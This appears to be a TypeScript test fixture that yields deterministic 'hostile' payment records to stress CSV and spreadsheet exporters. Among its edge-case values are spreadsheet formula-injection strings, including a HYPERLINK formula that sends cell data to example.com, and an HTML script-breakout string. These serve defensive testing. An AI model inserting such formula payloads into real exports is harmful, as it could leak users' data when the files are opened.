import { seededRandom } from '../seeded-random.ts';

/** Texts that break exporters: each may stand in any field that takes free text. */
export const HOSTILE_TEXTS: readonly string[] = [
  'plain',
  'comma, here',
  'quote " in the middle',
  '"fully quoted"',
  '""',
  '"',
  ',',
  'line\nbreak',
  'carriage\rreturn',
  'both\r\nof them',
  '\n',
  '\r',
  'tab\there',
  '\tleading tab',
  ' leading and trailing ',
  '=1+1',
  '+49 30 1234',
  '-1',
  '@SUM(A1)',
  "'",
  "'quoted'",
  "'=already guarded",
  "''=twice",
  '=HYPERLINK("http://example.com?"&A1,"x")',
  '＝fullwidth',
  '＋plus',
  '－minus',
  '＠at',
  "'＝guarded fullwidth",
  '=',
  'שלום עולם',
  'مرحبا بالعالم',
  '\u202eright to left override',
  'e\u0301 is not é',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘',
  '👩‍👩‍👧‍👦 family',
  '🏳️‍🌈',
  '支払い、確認',
  'ﬀ ligature',
  '\u200bzero width',
  '\ufeffbyte order mark inside',
  '\u0001\u0008\u000b\u000c\u001f controls \u007f',
  'back\\slash \\n \\u0041',
  '</script><b>&amp;',
  'null',
  'NULL',
  '\\N',
  'NaN',
  '0x1F',
  '1e5',
  '00123',
  '2026-04-01',
  'TRUE',
  ';semi|pipe',
  'x'.repeat(256),
  '"'.repeat(256),
  '🧾'.repeat(128),
];

const METADATA: readonly (Record<string, unknown> | undefined)[] = [
  undefined,
  {},
  { a: 1, b: [1, 2, { c: null }], d: { e: { f: 'deep, "quoted"\n' } } },
  { '': 'empty key', ключ: 'значение', '"quoted"': true, 'new\nline': false },
  { big: 9007199254740991, small: -0.5, list: [] },
  { '=1+1': '=2+2', note: '\u0001\u001f\\' },
  { long: 'y'.repeat(7_000) },
  { emoji: '👩‍👩‍👧‍👦', separators: '\u2028\u2029' },
];
const RATES = [
  undefined,
  '1',
  '1.0',
  '0.92130000',
  '149.50',
  '0.00000001',
  '12345678901234567890.000',
  '000.10',
];
const PRESENTMENTS: [string, number][] = [
  ['JPY', 149_500],
  ['KWD', 1_234_567],
  ['EUR', 0],
  ['KRW', 9_007_199_254_740_991],
];

/** `count` payments of one USD store in April 2026, each field hostile in turn; the same for the same seed. */
export function* hostilePayments(seed: number, count: number): Generator<Record<string, unknown>> {
  const random = seededRandom(seed);
  const text = () => random.pick(HOSTILE_TEXTS);
  const maybe = <Value>(value: Value) => (random.unit() < 0.8 ? value : undefined);
  for (let index = 0; index < count; index += 1) {
    const settles = index % 3 !== 0;
    const createdAt = new Date(Date.UTC(2026, 3, 1) + random.below(30 * 86_400_000)).toISOString();
    const large = index % 97 === 0;
    const amount = large && !settles ? 9_007_199_254_740_991 : random.below(1_000_000);
    const presentment = random.unit() < 0.5 ? random.pick(PRESENTMENTS) : undefined;
    const line: Record<string, unknown> = {
      object: 'payment',
      id: `pmt_h${String(index).padStart(6, '0')}${index % 2 === 0 ? '-A_z' : 'Zz9'}`,
      orderId: `ord_${index}`,
      orderNumber: text(),
      status: settles ? 'COMPLETED' : random.pick(['FAILED', 'PENDING', 'CANCELLED']),
      currency: settles ? 'USD' : random.pick(['USD', 'JPY', 'KWD']),
      intendedAmount: amount,
      totalAmount: amount,
      discountAmount: maybe(0),
      taxAmount: maybe(random.below(100)),
      platformFeeAmount: maybe(amount),
      processingFeeAmount: maybe(12),
      settledAmount: settles ? (index % 5 === 0 ? -random.below(1_000) : amount) : undefined,
      completedAt: settles ? createdAt : undefined,
      createdAt,
      presentmentCurrency: presentment?.[0],
      presentmentAmount: presentment?.[1],
      exchangeRate: random.pick(RATES),
      pspReference: maybe(text()),
      couponCode: maybe(index % 11 === 0 ? '' : text()),
      customer: maybe({
        id: `cus_${index % 50}`,
        email: maybe(`buyer${index}@example.com`),
        name: maybe(index % 13 === 0 ? '' : text()),
        country: maybe(random.pick(['GB', 'DE', 'JP'])),
        ip: maybe(random.pick(['203.0.113.7', '2001:db8::1', '::ffff:192.0.2.1'])),
      }),
      metadata: random.pick(METADATA),
      paymentMethod: maybe(random.pick(['card', 'sepa_debit'])),
      cardBrand: maybe('visa'),
      cardLastFour: maybe(random.pick(['4242', '0007'])),
    };
    yield JSON.parse(JSON.stringify(line)) as Record<string, unknown>;
  }
}
